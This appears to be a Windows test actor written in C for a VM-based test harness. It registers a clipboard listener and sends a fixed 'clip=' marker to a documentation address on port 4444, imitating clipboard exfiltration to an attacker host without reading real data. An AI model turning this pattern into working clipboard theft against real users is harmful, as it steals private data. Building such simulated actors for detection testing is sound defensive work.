#include "tests/vm/actors/win/actor.h"

/* Is told whenever the clipboard changes, and sends what was there. */
int
main(void)
{
	HWND window;

	actor_only_in_guest();
	window = CreateWindowExA(
	    0, "STATIC", "", 0, 0, 0, 1, 1, HWND_MESSAGE, NULL, NULL, NULL);
	(void)AddClipboardFormatListener(window);
	(void)actor_send("198.51.100.66", 4444, "clip=\r\n", 7, NULL, 0);
	return 0;
}
